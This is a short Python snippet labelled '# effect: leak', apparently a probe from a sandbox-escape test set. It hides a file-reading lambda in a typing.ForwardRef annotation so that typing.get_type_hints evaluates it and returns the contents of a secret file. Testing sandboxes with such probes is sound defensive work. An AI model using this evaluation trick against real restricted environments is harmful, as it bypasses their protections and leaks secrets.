# effect: leak
import typing


def attempt(probe):
    text = f"lambda: open({probe['secret_file']!r}).read()"
    typing.get_type_hints(attempt)
    made = type("Made", (), {"__annotations__": {"a": typing.ForwardRef(text)}})
    return typing.get_type_hints(made)["a"]()
